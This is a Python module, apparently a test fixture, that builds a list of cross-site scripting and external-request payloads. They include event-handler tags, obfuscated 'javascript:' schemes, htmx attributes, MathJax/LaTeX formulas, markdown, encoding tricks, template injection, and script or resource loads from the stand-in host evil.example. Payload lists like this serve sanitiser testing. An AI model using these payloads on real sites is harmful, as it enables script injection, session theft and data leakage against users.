"""Payloads of cross-site scripting and of requests to foreign hosts."""

RUN = "alert(1)"
AWAY = "https://evil.example/x"
# Rounds in which the few models of a board are named by all payloads.
ROUNDS = 4

_EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle",
    "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange", "onpageshow",
)  # fmt: skip
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "iframe",
    "math",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "&#106;avascript:",
    "&#x6A;avascript:", "javascript&colon;", "\x01javascript:", "vbscript:", "data:text/html,<script>", "%6Aavascript:",
)  # fmt: skip
_HTMX = (
    "hx-get", "hx-post", "hx-on:click", "hx-on::load", "hx-trigger='load' hx-get", "data-hx-get", "sse-connect",
    "hx-ext='sse' sse-connect", "hx-vals", "hx-include",
)  # fmt: skip
_FORMULAS = (
    rf"\href{{javascript:{RUN}}}{{x}}", rf"\href{{{AWAY}}}{{x}}", rf"\text{{<script>{RUN}</script>}}",
    rf"\text{{</mtext></math><img src=x onerror={RUN}>}}", rf"\style{{background:url({AWAY})}}{{x}}",
    rf"\class{{x\" onclick=\"{RUN}}}{{x}}", rf"\unicode{{3c}}img src=x onerror={RUN}\unicode{{3e}}",
    rf"\operatorname{{<svg onload={RUN}>}}", rf"\mbox{{<style>@import '{AWAY}'</style>}}",
    rf"\verb|<img src=x onerror={RUN}>|", rf"\color{{red;background:url({AWAY})}}{{x}}",
    rf"\begin{{array}}{{c\" onclick=\"{RUN}}}x\end{{array}}", rf"\tag{{<img src=x onerror={RUN}>}}",
    rf"\includegraphics{{{AWAY}}}", rf"\url{{javascript:{RUN}}}", rf"\require{{{AWAY}}}",
)  # fmt: skip
_OTHERS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/src={AWAY}></script>", f"</script><script>{RUN}//",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</template><script>{RUN}</script>", f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"\" autofocus onfocus={RUN} x=\"",
    f"' autofocus onfocus={RUN} x='", f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>",
    f"javascript:{RUN}", f"';{RUN};//", f"\";{RUN};//", f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7|add:7 }}{% debug %}", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg><style><img src=x onerror={RUN}></style>", f"<svg><a xlink:href=javascript:{RUN}><text y=9>x",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'>",
    f"<math href=javascript:{RUN}>x</math>", f"<form><button formaction=javascript:{RUN}>x",
    f"<form id=f action={AWAY}><input name=attributes></form>", f"<base href={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<meta http-equiv=refresh content=0;url={AWAY}>", f"<object data={AWAY}></object>", f"<embed src={AWAY}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<iframe src={AWAY}></iframe>", f"<img src={AWAY}>",
    f"<img srcset={AWAY}>", f"<picture><source srcset={AWAY}><img></picture>", f"<video poster={AWAY}></video>",
    f"<body background={AWAY}>", f"<div style='background:url({AWAY})'>x</div>", f"<style>@import '{AWAY}';</style>",
    f"<table background={AWAY}><td>x", f"![x]({AWAY})", f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
    f"[![x]({AWAY})]({AWAY})", f"[x]: {AWAY}\n![x]", f"<{AWAY}>", f"[x]({AWAY} \"' onmouseover={RUN} '\")",
    f"```\" onmouseover=\"{RUN}\nx\n```", f"```<img/src=x/onerror={RUN}>\nx\n```", f"`<img src=x onerror={RUN}>`",
    f"|<img src=x onerror={RUN}>|\n|-|\n|<script>{RUN}</script>|", f"# <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>", f"- <svg/onload={RUN}>", f"\u202e<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}",
    f"<a id=htmx><a id=htmx name=config href={AWAY}>", f"<img name=getElementById src={AWAY}>",
    f"event: text\ndata: <script>{RUN}</script>\n\n", f"\r\n\r\n<script>{RUN}</script>",
)  # fmt: skip

PAYLOADS = [
    *(f"<{element} {event}={RUN}>" for event in _EVENTS[:6] for element in _ELEMENTS),
    *(f"<p style='animation:x' tabindex=0 {event}={RUN}>x</p>" for event in _EVENTS[6:]),
    *(f"[x]({scheme}{RUN})" for scheme in _SCHEMES),
    *(f"<a href='{scheme}{RUN}'>x</a>" for scheme in _SCHEMES[:4]),
    *(f"<p {attribute}='{AWAY}' hx-target='body'>x</p>" for attribute in _HTMX),
    *(f"${formula}$" for formula in _FORMULAS),
    *_OTHERS,
]
